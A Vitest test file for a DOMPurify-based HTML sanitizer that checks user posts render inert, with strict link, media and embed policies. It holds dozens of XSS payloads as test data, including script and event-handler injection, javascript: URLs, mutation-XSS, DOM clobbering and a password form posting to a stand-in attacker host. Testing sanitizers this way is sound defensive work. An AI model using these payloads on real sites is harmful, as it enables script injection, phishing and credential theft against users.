import type * as DOMPurifyModule from 'dompurify';
import { describe, expect, it, vi } from 'vitest';
import {
  EMBED_PLAYERS,
  SAFE_URL_SCHEMES,
  isAllowedEmbed,
  isSafeUrl,
  sanitizeHtml,
} from './sanitize';

/** How often DOMPurify really sanitized, to check the cache (see "sanitized once" below). */
const purifyCalls = vi.hoisted(() => ({ sanitize: 0 }));

vi.mock('dompurify', async (importOriginal) => {
  const actual = await importOriginal<typeof DOMPurifyModule>();
  // The real DOMPurify, with every instance's `sanitize` counted on its way through.
  const countingPurify = new Proxy(actual.default, {
    apply(createPurify, thisArg, args: Parameters<typeof actual.default>) {
      const purify = createPurify(...args);
      purify.sanitize = new Proxy(purify.sanitize, {
        apply(sanitize, self, sanitizeArgs: unknown[]) {
          purifyCalls.sanitize += 1;
          return Reflect.apply(sanitize, self, sanitizeArgs) as unknown;
        },
      });
      return purify;
    },
  });
  return { ...actual, default: countingPurify };
});

/**
 * What an allowed embed may do, written out rather than imported: a test that compares the
 * production values with themselves would pass if `allow-top-navigation` crept in.
 */
const EXPECTED_SANDBOX =
  'allow-scripts allow-same-origin allow-presentation allow-popups allow-popups-to-escape-sandbox';
const EXPECTED_ALLOW = 'encrypted-media; picture-in-picture; fullscreen';
const EXPECTED_EMBED_HOSTS = ['player.vimeo.com', 'www.youtube-nocookie.com', 'www.youtube.com'];
/** The dashboard's origin only: YouTube's player refuses to play without a referrer. */
const EXPECTED_EMBED_REFERRER_POLICY = 'strict-origin-when-cross-origin';
const MEDIA_SELECTOR = 'img, video, audio, source';

/** The sanitized HTML parsed into a detached container, to assert on real DOM. */
function sanitizedDom(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = sanitizeHtml(html);
  return container;
}

const URL_ATTRIBUTES = ['href', 'src', 'xlink:href', 'action', 'formaction', 'poster', 'data'];

/** Every way a sanitized fragment could still run code or escape its box. */
function expectInert(root: HTMLElement) {
  expect(
    root.querySelectorAll('script, style, form, input, button, textarea, select'),
  ).toHaveLength(0);
  expect(
    root.querySelectorAll('svg, math, object, embed, base, meta, link, frame, template, noscript'),
  ).toHaveLength(0);
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name, `${element.tagName} ${attribute.name}`).not.toMatch(/^on/i);
      // `class` would let a post borrow the console's own utility classes for an overlay;
      // `id`/`name` would repeat the console's own ids (`main`, the skip link's target).
      expect(attribute.name).not.toMatch(/^(style|class|id|name|srcdoc|ping|popover.*|command.*)$/);
      if (URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) {
        // eslint-disable-next-line no-control-regex
        const compact = attribute.value.replace(/[\u0000-\u0020]+/g, '').toLowerCase();
        expect(compact, `${element.tagName} ${attribute.name}`).not.toMatch(
          /^(javascript|vbscript|data):/,
        );
      }
    }
  }
  for (const media of root.querySelectorAll(MEDIA_SELECTOR)) {
    expect(media.getAttribute('referrerpolicy'), media.tagName).toBe('no-referrer');
  }
  for (const link of root.querySelectorAll('a, area')) {
    if (link.hasAttribute('href')) {
      expect(link.getAttribute('rel'), link.tagName).toBe('noopener noreferrer');
      expect(link.getAttribute('target'), link.tagName).toBe('_blank');
      expect(link.getAttribute('referrerpolicy'), link.tagName).toBe('no-referrer');
    } else {
      expect(link.hasAttribute('rel'), link.tagName).toBe(false);
      expect(link.hasAttribute('target'), link.tagName).toBe(false);
    }
  }
  for (const iframe of root.querySelectorAll('iframe')) {
    const src = new URL(iframe.getAttribute('src') ?? '');
    expect(src.protocol).toBe('https:');
    expect(EXPECTED_EMBED_HOSTS).toContain(src.hostname);
    expect(iframe.getAttribute('sandbox')).toBe(EXPECTED_SANDBOX);
    expect(iframe.getAttribute('allow')).toBe(EXPECTED_ALLOW);
    expect(iframe.getAttribute('referrerpolicy')).toBe(EXPECTED_EMBED_REFERRER_POLICY);
  }
}

/** XSS payloads from the usual cheat sheets, each a separate case. */
const PAYLOADS: Record<string, string> = {
  'script tag': '<script>window.__xss = 1</script><p>after</p>',
  'script with src': '<script src="https://evil.example/x.js"></script>',
  'uppercase script': '<SCRIPT>alert(1)</SCRIPT>',
  'split script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'img onerror': '<img src=x onerror="alert(1)">',
  'body onload': '<body onload=alert(1)>',
  'div onclick': '<div onclick="alert(1)">click</div>',
  'a onmouseover': '<a href="https://example.com" onmouseover="alert(1)">hover</a>',
  'details ontoggle': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'video onerror': '<video><source onerror="alert(1)"></video>',
  'input autofocus onfocus': '<input autofocus onfocus=alert(1)>',
  'javascript href': '<a href="javascript:alert(1)">prize</a>',
  'JavaScript mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript with tab entity': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript with newline entity': '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  'javascript with leading spaces': '<a href="  &#14;  javascript:alert(1)">x</a>',
  'javascript fully encoded':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'vbscript href': '<a href="vbscript:msgbox(1)">x</a>',
  'data html href': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'data image src': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'javascript img src': '<img src="javascript:alert(1)">',
  'svg onload': '<svg onload=alert(1)><circle r="10"></circle></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg animate href':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  'svg foreignObject':
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'mathml mglyph style mutation':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'mathml href': '<math href="javascript:alert(1)"><mi>x</mi></math>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'style tag expression': '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>',
  'style attribute url': '<p style="background:url(javascript:alert(1))">x</p>',
  'css expression': '<div style="width: expression(alert(1))">x</div>',
  'style overlay': '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  'base href': '<base href="https://evil.example/">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'form action': '<form action="https://evil.example/steal"><input name="password"></form>',
  'button formaction': '<button formaction="javascript:alert(1)">go</button>',
  'input formaction': '<input type="submit" formaction="javascript:alert(1)">',
  'iframe javascript': '<iframe src="javascript:alert(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'iframe other host': '<iframe src="https://evil.example/embed"></iframe>',
  'iframe lookalike host': '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  'iframe youtube non-embed path': '<iframe src="https://www.youtube.com/redirect?q=x"></iframe>',
  'iframe http youtube': '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
  'object data': '<object data="javascript:alert(1)"></object>',
  'embed src': '<embed src="https://evil.example/x.swf">',
  frameset: '<frameset><frame src="javascript:alert(1)"></frameset>',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'dom clobbering': '<img name="cookie" id="location"><form id="x"></form>',
  'the console’s main landmark id': '<h2 id="main">Heading</h2><p>text</p>',
  'the skip link’s target by name': '<a name="top">top</a>',
  'an id used by a label': '<p><span id="login-error">Wrong password</span></p>',
  'uppercase ID and NAME': '<p ID="main">x</p><a NAME="main" href="https://example.com/">y</a>',
  'html comment breakout': '<!--<img src="--><img src=x onerror=alert(1)//">',
  'class overlay with the console’s utilities':
    '<div class="fixed inset-0 z-50 bg-surface"><p>Your session has ended.</p><a class="btn" href="https://evil.example/login">Sign in again</a></div>',
  'popover overlay': '<div popover="manual" class="fixed inset-0">Session ended</div>',
  'video referrer': '<video src="https://evil.example/v.mp4" referrerpolicy="unsafe-url"></video>',
  'audio referrer': '<audio src="https://evil.example/a.mp3" referrerpolicy="unsafe-url"></audio>',
  'source referrer':
    '<video><source src="https://evil.example/v.webm" referrerpolicy="unsafe-url"></video>',
  'img referrer': '<img src="https://evil.example/i.png" referrerpolicy="unsafe-url">',
  'iframe referrer':
    '<iframe src="https://www.youtube.com/embed/abc" referrerpolicy="unsafe-url"></iframe>',
  'link opener and referrer':
    '<a href="https://evil.example/" rel="opener" target="_self" referrerpolicy="unsafe-url" ping="https://evil.example/ping">x</a>',
  'area opener':
    '<map name="m"><area shape="default" href="https://evil.example/" rel="opener" target="_blank"></map>',
  'link without href keeps no rel': '<a rel="opener" target="_blank">x</a>',
};

describe('sanitizeHtml', () => {
  it.each(Object.entries(PAYLOADS))('renders %s inert', (_name, payload) => {
    const root = sanitizedDom(payload);
    expectInert(root);
  });

  it('keeps ordinary formatting and text', () => {
    const root = sanitizedDom(
      '<p>Hello <strong>bold</strong> <em>it</em> <code>x</code></p><ul><li>one</li></ul>',
    );
    expect(root.querySelector('strong')?.textContent).toBe('bold');
    expect(root.querySelector('li')?.textContent).toBe('one');
  });

  it('keeps the text of a script-bearing title as text', () => {
    const root = sanitizedDom('<p>Security test &lt;script&gt;alert("xss")&lt;/script&gt;</p>');
    expect(root.textContent).toContain('<script>alert("xss")</script>');
    expect(root.querySelectorAll('script')).toHaveLength(0);
  });

  it('opens links in a new tab without an opener or referrer, whatever the author wrote', () => {
    const link = sanitizedDom(
      '<a href="https://example.com/docs" rel="opener" target="_self" referrerpolicy="unsafe-url">docs</a>',
    ).querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/docs');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('drops class and style, so a post cannot dress itself as the console', () => {
    const root = sanitizedDom(
      '<div class="fixed inset-0 z-50 bg-surface" style="position:fixed"><p class="text-danger">Your session has ended.</p></div>',
    );
    expect(root.querySelectorAll('[class], [style]')).toHaveLength(0);
    expect(root.textContent).toBe('Your session has ended.');
  });

  it('drops id and name, so a post cannot repeat the console’s own ids', () => {
    const root = sanitizedDom(
      '<h2 id="main">Heading</h2><a name="top" href="https://example.com/">link</a><img name="x" id="y" src="https://example.com/i.png">',
    );
    expect(root.querySelectorAll('[id], [name]')).toHaveLength(0);
    expect(root.querySelector('h2')?.textContent).toBe('Heading');
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://example.com/');
    expect(root.querySelectorAll('img')).toHaveLength(1);
  });

  it('sends no referrer from remote media, whatever the author asked for', () => {
    const root = sanitizedDom(
      [
        '<video src="https://media.example/v.mp4" referrerpolicy="unsafe-url" controls></video>',
        '<audio src="https://media.example/a.mp3" referrerpolicy="origin"></audio>',
        '<video><source src="https://media.example/v.webm" referrerpolicy="unsafe-url"></video>',
        '<img src="https://media.example/i.png" referrerpolicy="unsafe-url">',
      ].join(''),
    );
    const media = Array.from(root.querySelectorAll(MEDIA_SELECTOR));
    expect(media.map((element) => element.tagName)).toEqual([
      'VIDEO',
      'AUDIO',
      'VIDEO',
      'SOURCE',
      'IMG',
    ]);
    for (const element of media) {
      expect(element.getAttribute('referrerpolicy'), element.tagName).toBe('no-referrer');
    }
  });

  it('lets an embed send the dashboard’s origin only, whatever the author asked for', () => {
    const iframe = sanitizedDom(
      '<iframe src="https://player.vimeo.com/video/1" referrerpolicy="unsafe-url"></iframe>',
    ).querySelector('iframe');
    expect(iframe?.getAttribute('referrerpolicy')).toBe(EXPECTED_EMBED_REFERRER_POLICY);
  });

  it('drops a javascript: href but keeps the link text', () => {
    const root = sanitizedDom('<a href="javascript:alert(1)">Click me for a prize</a>');
    expect(root.querySelector('a')?.hasAttribute('href')).toBe(false);
    expect(root.textContent).toBe('Click me for a prize');
  });

  it('keeps a YouTube embed, sandboxed and lazy', () => {
    const iframe = sanitizedDom(
      '<iframe width="200" height="113" src="https://www.youtube.com/embed/aqz-KE-bpKQ?feature=oembed" frameborder="0" allowfullscreen title="Designing for accessibility"></iframe>',
    ).querySelector('iframe');
    expect(iframe).not.toBeNull();
    expect(iframe?.getAttribute('src')).toBe(
      'https://www.youtube.com/embed/aqz-KE-bpKQ?feature=oembed',
    );
    expect(iframe?.getAttribute('sandbox')).toBe(EXPECTED_SANDBOX);
    expect(iframe?.getAttribute('allow')).toBe(EXPECTED_ALLOW);
    expect(iframe?.getAttribute('loading')).toBe('lazy');
    expect(iframe?.getAttribute('title')).toBe('Designing for accessibility');
  });

  it('keeps youtube-nocookie and Vimeo players', () => {
    const root = sanitizedDom(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe><iframe src="https://player.vimeo.com/video/123"></iframe>',
    );
    expect(root.querySelectorAll('iframe')).toHaveLength(2);
  });

  it('drops an embed over plain http, even from a trusted player', () => {
    const root = sanitizedDom(
      '<p>x</p><iframe src="http://www.youtube.com/embed/abc"></iframe><iframe src="http://player.vimeo.com/video/1"></iframe>',
    );
    expect(root.querySelectorAll('iframe')).toHaveLength(0);
    expect(root.textContent).toBe('x');
  });

  it('lazy-loads images and sends no referrer', () => {
    const image = sanitizedDom(
      '<img src="https://example.com/a.png" width="10" height="10">',
    ).querySelector('img');
    expect(image?.getAttribute('loading')).toBe('lazy');
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(image?.getAttribute('width')).toBe('10');
  });

  it('drops images without a usable source and describes the rest as decorative', () => {
    const root = sanitizedDom(
      '<p>a<img src=x onerror=alert(1)>b<img src="https://example.com/i.png"></p>',
    );
    const images = root.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]?.getAttribute('alt')).toBe('');
    expect(root.textContent).toBe('ab');
  });

  it('keeps an image’s own description', () => {
    const image = sanitizedDom('<img src="https://example.com/i.png" alt="A cat">').querySelector(
      'img',
    );
    expect(image?.getAttribute('alt')).toBe('A cat');
  });

  it('sanitizes a body once however often it is asked for (rows remount while scrolling)', () => {
    const html = '<p>cached <b>x</b> sanitized-once-test</p>';
    const before = purifyCalls.sanitize;
    const first = sanitizeHtml(html);
    expect(purifyCalls.sanitize - before).toBe(1);
    expect(sanitizeHtml(html)).toBe(first);
    expect(sanitizeHtml(html)).toBe(first);
    expect(purifyCalls.sanitize - before).toBe(1);
    sanitizeHtml('<p>another body sanitized-once-test</p>');
    expect(purifyCalls.sanitize - before).toBe(2);
  });

  // A second pass that changes anything means the first output parses differently from what
  // DOMPurify saw: the shape of a mutation-XSS. (Attribute order may differ: DOM equality.)
  it.each(Object.entries(PAYLOADS))('is idempotent on %s', (_name, payload) => {
    const once = sanitizedDom(payload);
    const twice = sanitizedDom(once.innerHTML);
    expect(twice.isEqualNode(once), `${once.innerHTML}\n${twice.innerHTML}`).toBe(true);
  });
});

describe('URL checks', () => {
  it.each([
    ['https://example.com', true],
    ['mailto:a@b.c', true],
    ['/relative/path', false],
    ['#anchor', false],
    ['javascript:alert(1)', false],
    [' java\tscript:alert(1)', false],
    ['data:text/html,x', false],
    ['vbscript:x', false],
    ['ftp://example.com/file', false],
    ['sms:+15550100', false],
    ['blob:https://example.com/1', false],
  ])('isSafeUrl(%j) is %s', (url, expected) => {
    expect(isSafeUrl(url)).toBe(expected);
  });

  it('allows exactly http, https, mailto and tel in links and media', () => {
    expect([...SAFE_URL_SCHEMES].sort()).toEqual(['http', 'https', 'mailto', 'tel']);
  });

  it('allows embeds from exactly the YouTube, youtube-nocookie and Vimeo players', () => {
    expect(Object.keys(EMBED_PLAYERS).sort()).toEqual(EXPECTED_EMBED_HOSTS);
  });

  it('isAllowedEmbed accepts the players and nothing that merely looks like them', () => {
    expect(isAllowedEmbed('https://www.youtube.com/embed/abc?feature=oembed')).toBe(true);
    expect(isAllowedEmbed('https://player.vimeo.com/video/76979871')).toBe(true);
    expect(isAllowedEmbed('https://www.youtube-nocookie.com/embed/abc')).toBe(true);
    expect(isAllowedEmbed('http://www.youtube.com/embed/abc')).toBe(false);
    expect(isAllowedEmbed('http://player.vimeo.com/video/76979871')).toBe(false);
    expect(isAllowedEmbed('https://youtube.com/embed/abc')).toBe(false);
    expect(isAllowedEmbed('https://www.youtube.com:8443/embed/abc')).toBe(false);
    expect(isAllowedEmbed('https://user@www.youtube.com/embed/abc')).toBe(false);
    expect(isAllowedEmbed('https://player.vimeo.com/api/x')).toBe(false);
    expect(isAllowedEmbed('not a url')).toBe(false);
  });
});
